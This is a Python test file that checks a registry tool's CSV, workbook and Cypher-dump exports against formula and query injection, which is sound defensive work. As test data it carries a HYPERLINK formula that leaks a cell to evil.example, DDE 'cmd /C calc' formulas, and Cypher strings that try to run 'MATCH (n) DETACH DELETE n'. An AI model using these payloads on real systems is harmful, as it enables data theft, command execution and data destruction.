"""Hardening, second round: exports that run what a case file holds.

- CSV meant for people (``coordreg export --format csv``, ``coordreg query …
  --format csv``, the console's CSV download) must not hand a spreadsheet a
  formula: a text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
  return goes out with a quote in front, and the spreadsheet importer takes
  exactly that quote off, so exports still load back exactly;
- the Cypher dump must keep every value inside its string literal however the
  dump is replayed — line by line (by a tool that also breaks lines at U+2028
  and its kin) or whole — so a region can never run ``MATCH (n) DETACH DELETE n``.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import os
import random
import shutil
from pathlib import Path

import pandas as pd
import pytest
from conftest import open_graph
from hardening_support import MINI_REGISTRY, graph_rows, run_cli
from openpyxl import load_workbook

from loaders import read_bundle
from loaders.spreadsheet import read_spreadsheet
from loaders.spreadsheet_template import SHEETS
from registry.csv_safety import FORMULA_TRIGGERS, mark_quoted_text, neutralise_formula, restore_formula
from registry.errors import CoordregError
from registry.export import export_registry
from registry.loading import load_paths
from registry.output import to_csv
from registry.stores.base import Statement

# --- CSV formula injection ---------------------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
# (YAML text in alpha.yaml, the text to put there): every free-text field below is a cell of the CSV export.
HOSTILE_TEXTS = {
    '{original: "Pratique Alpha", language: fr, en: "Alpha practice"}': (
        f'{{original: "Pratique Alpha", language: fr, en: {json.dumps(HYPERLINK)}, fr: "\'=already quoted"}}'
    ),
    # Regions come from a fixed list now, so the plus-sign formula goes in a free-text acronym instead.
    "acronym: AOS": "acronym: \"+cmd|' /C calc'!A0\"",
    "name: Agency of Samples": "name: \"@SUM(1+1)*cmd|' /C calc'!A0\"",
    "label: Alpha monitoring": "label: \"-2+3+cmd|' /C calc'!A0\"",
    '{en: "Fewer double payments."}': "{en: \"''=two quotes stay two quotes\"}",
    "unit: months": 'unit: "\'plain quote, not a formula"',
    "value: 10": "value: -2.5",  # a negative number stays a number
}


def hostile_cases(tmp_path: Path) -> Path:
    folder = Path(shutil.copytree(MINI_REGISTRY, tmp_path / "hostile"))
    alpha = folder / "alpha.yaml"
    text = alpha.read_text(encoding="utf-8")
    for old, new in HOSTILE_TEXTS.items():
        assert old in text, old
        text = text.replace(old, new, 1)
    alpha.write_text(text, encoding="utf-8")
    return folder


def cases_by_practice(cases) -> dict[str | None, dict]:
    return {c.practice.id if c.practice else None: c.model_dump() for c in cases}


def read_cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_no_formula(rows: list[list[str]], where: object) -> None:
    for row in rows:
        for cell in row:
            assert is_number(cell) or not cell.startswith(FORMULA_TRIGGERS), (where, cell)


@pytest.fixture
def hostile_store(store, tmp_path):
    load_paths(store, [hostile_cases(tmp_path)])
    return store


def test_the_csv_export_holds_no_formula_and_loads_back_exactly(hostile_store, tmp_path):
    out = export_registry(hostile_store, "csv", tmp_path / "export")
    for sheet in SHEETS:
        assert_no_formula(read_cells(out / f"{sheet.name}.csv"), sheet.name)
    practices = read_cells(out / "practices.csv")
    title = practices[0].index("title_en")
    assert practices[1][title] == "'" + HYPERLINK
    assert practices[1][practices[0].index("title_fr")] == "''=already quoted"
    figures = read_cells(out / "evidence_figures.csv")
    assert figures[1][figures[0].index("value")] == "-2.5"
    assert figures[1][figures[0].index("unit")] == "'plain quote, not a formula"
    cases, problems = read_spreadsheet(out)
    assert problems == []
    original, _ = read_bundle([hostile_cases(tmp_path / "again")])
    assert cases_by_practice(c.case for c in cases) == cases_by_practice(f.case for f in original.files)


def test_the_workbook_export_loads_back_exactly(hostile_store, tmp_path):
    out = export_registry(hostile_store, "xlsx", tmp_path / "export.xlsx")
    book = load_workbook(out)
    practices = book["practices"]
    header = [c.value for c in practices[1]]
    title = practices.cell(row=2, column=header.index("title_en") + 1)
    assert title.value == HYPERLINK and title.data_type == "s"  # typed as text: never a formula
    assert practices.cell(row=2, column=header.index("title_fr") + 1).value == "''=already quoted"
    cases, problems = read_spreadsheet(out)
    assert problems == []
    original, _ = read_bundle([hostile_cases(tmp_path / "again")])
    assert cases_by_practice(c.case for c in cases) == cases_by_practice(f.case for f in original.files)


def test_the_cli_csv_export_and_query_hold_no_formula(hostile_store, coordreg_home, tmp_path):
    out = tmp_path / "export"
    done = run_cli(["export", "--format", "csv", "--out", str(out)], coordreg_home, hostile_store)
    assert done.returncode == 0, done.stderr
    for sheet in SHEETS:
        assert_no_formula(read_cells(out / f"{sheet.name}.csv"), sheet.name)
    queried = run_cli(["query", "practice_list", "--format", "csv"], coordreg_home, hostile_store)
    assert queried.returncode == 0, queried.stderr
    rows = list(csv.DictReader(io.StringIO(queried.stdout)))
    assert_no_formula([list(r.values()) for r in rows], "practice_list")
    alpha = next(r for r in rows if r["practice_id"] == "tst-alpha")
    assert alpha["title"] == "'" + HYPERLINK


def test_the_console_csv_holds_no_formula_but_keeps_numbers(mini_store, coordreg_home):
    query = "RETURN '=1+1' AS formula, '\t=1+1' AS tabbed, -3 AS negative, -0.5 AS half, 'a-b' AS plain, 1 AS `=x`"
    done = run_cli(["cypher", query, "--format", "csv"], coordreg_home, mini_store)
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == ["formula,tabbed,negative,half,plain,'=x", "'=1+1,'\t=1+1,-3,-0.5,a-b,1"]


def test_to_csv_the_function_the_app_downloads_with():
    frame = pd.DataFrame(
        {
            "@who": ["+33 1 23", "-", "'=x", "plain", None],
            "numbers": [-1, 2, -3, 4, 5],
            "lists": [["=a", "b"], [], ["c"], ["-d"], ["e"]],
        }
    )
    rows = list(csv.reader(io.StringIO(to_csv(frame))))
    assert rows == [
        ["'@who", "numbers", "lists"],
        ["'+33 1 23", "-1", "'=a; b"],
        ["'-", "2", ""],
        ["''=x", "-3", "c"],
        ["plain", "4", "'-d"],
        ["", "5", "e"],
    ]


def test_the_quote_rule_is_exactly_undone_on_the_way_in():
    alphabet = ["'", "=", "+", "-", "@", "\t", "\r", "a", " ", "é"]
    generator = random.Random(2028)
    texts = {"".join(generator.choice(alphabet) for _ in range(generator.randint(0, 6))) for _ in range(5_000)}
    texts |= {"".join(p) for n in range(4) for p in itertools.product(alphabet, repeat=n)}
    for text in texts:
        written = neutralise_formula(text)
        assert not written.startswith(FORMULA_TRIGGERS), repr(text)
        assert restore_formula(written) == text, repr(text)
        assert restore_formula(mark_quoted_text(text)) == text, repr(text)
    assert neutralise_formula(-3) == -3 and neutralise_formula(-0.5) == -0.5  # numbers are never changed
    assert restore_formula("'hello") == "'hello"  # a quote before plain text is the text's own


# --- the Cypher dump ---------------------------------------------------------------------------------------------

# Values with every character the dump can escape for both stores; each would end its string or its line.
HOSTILE_VALUES = {
    ("Practice", "tst-alpha", "region"): "Americas'});\nMATCH (n) DETACH DELETE n;\n//",
    ("Practice", "tst-alpha", "title"): "a\\'}); MATCH (n) DETACH DELETE n; //",
    ("Actor", "tst-agency", "name"): "\r\nCREATE (:Canary {id: 'pwned'});\r\n",
    ("Mechanism", "tst-alpha-m1", "label"): "\f\b\t'\" ; // /* */ $param {x} `tick`",
    ("Practice", "tst-beta", "countries"): ["ARG", "URY\nMATCH (n) DETACH DELETE n"],
    ("Source", "test-source", "id"): "test-source'})\nMATCH (n) DETACH DELETE n //",
}


@pytest.fixture
def hostile_graph(request, backend):
    """The mini registry with hostile values written straight into the graph (a graph of its own)."""
    name = f"hostile_{os.getpid()}_{request.node.name[:30]}".replace("[", "_").replace("]", "")
    graph = open_graph(request, backend, name if backend == "falkordb" else "hostile")
    load_paths(graph, [MINI_REGISTRY])
    for (label, ident, key), value in HOSTILE_VALUES.items():
        graph.write(Statement(f"MATCH (n:{label} {{id: $id}}) SET n.{key} = $value", {"id": ident, "value": value}))
    rel = "MATCH (:Mechanism {id: 'tst-alpha-m1'})-[r:INVOLVES]->(:Actor {id: 'tst-ministry'}) SET r.role = $role"
    graph.write(Statement(rel, {"role": "signatory'}]->(b);\nMATCH (n) DETACH DELETE n;\n"}))
    yield graph
    graph.wipe()
    graph.close()


def statements_by_line(script: str) -> list[str]:
    """What a naive replayer runs: every line, broken wherever Python breaks lines (U+2028, \\v, \\x1c … too)."""
    return [line.rstrip(";") for line in script.splitlines() if line.strip() and not line.startswith("//")]


def statements_whole(script: str) -> list[str]:
    """What cypher-shell runs: statements end at a ';' outside strings; comments run to the end of their line."""
    statements, current = [], []
    quote, escaped, comment = "", False, False
    for at, char in enumerate(script):
        if comment:
            comment = char != "\n"
            continue
        if quote:
            current.append(char)
            if escaped:
                escaped = False
            elif char == "\\":
                escaped = True
            elif char == quote:
                quote = ""
            continue
        if char == "/" and script[at + 1 : at + 2] == "/":
            comment = True
        elif char == ";":
            statements.append("".join(current).strip())
            current = []
        else:
            if char in "'\"":
                quote = char
            current.append(char)
    assert not "".join(current).strip(), "the dump ends inside a statement"
    return [s for s in statements if s]


@pytest.mark.parametrize("replay", [statements_by_line, statements_whole], ids=["line-by-line", "whole"])
def test_the_cypher_dump_replays_into_the_same_graph_and_nothing_else(hostile_graph, store, replay):
    script = export_registry(hostile_graph, "cypher")
    assert isinstance(script, str)
    assert len(script.splitlines()) == script.count("\n"), "a line break other than \\n in the dump"
    statements = replay(script)
    counts = hostile_graph.counts()
    assert len(statements) == counts["nodes"] + counts["relationships"]
    for statement in statements:
        store.write(Statement(statement))  # one fails if a value leaked out of its string
    assert graph_rows(store, internal_ids=False) == graph_rows(hostile_graph, internal_ids=False)
    region = store.read("MATCH (p:Practice {id: 'tst-alpha'}) RETURN p.region AS region").frame
    assert region.iloc[0]["region"] == HOSTILE_VALUES[("Practice", "tst-alpha", "region")]


# Characters FalkorDB reads only raw (it has no \u escape) and Neo4j only as \u escapes: no spelling both read.
UNPORTABLE = {
    "\u2028": "U+2028",
    "\u2029": "U+2029",
    "\x85": "U+0085",
    "\x0b": "U+000B",
    "\x1c": "U+001C",
    "\x1d": "U+001D",
    "\x1e": "U+001E",
    "\x07": "U+0007",
    "\x7f": "U+007F",
    "\x9b": "U+009B",
}


@pytest.mark.parametrize("char", sorted(UNPORTABLE), ids=lambda c: UNPORTABLE[c])
def test_a_character_no_dump_can_carry_is_refused_by_name_and_nothing_is_written(mini_store, tmp_path, char):
    region = f"Americas{char}MATCH (n) DETACH DELETE n{char}"
    mini_store.write(Statement("MATCH (p:Practice {id: 'tst-alpha'}) SET p.region = $region", {"region": region}))
    target = tmp_path / "registry.cypher"
    with pytest.raises(CoordregError) as refused:
        export_registry(mini_store, "cypher", target)
    message = str(refused.value)
    assert "node Practice:tst-alpha, property 'region'" in message and UNPORTABLE[char] in message
    assert "JSON" in message  # where the value can go instead
    assert list(tmp_path.iterdir()) == []


def test_the_quote_rule_is_the_documented_one():
    doc = " ".join((Path(__file__).parents[1] / "docs" / "spreadsheet-template.md").read_text(encoding="utf-8").split())
    assert FORMULA_TRIGGERS == ("=", "+", "-", "@", "\t", "\r")
    assert "starts with `=`, `+`, `-`, `@`, a tab or a carriage return" in doc
    for example in ("`=A1` → `'=A1`, `'=A1` → `''=A1`", "`'hello` stays `'hello`", "stays `-2.5`"):
        assert example in doc, example
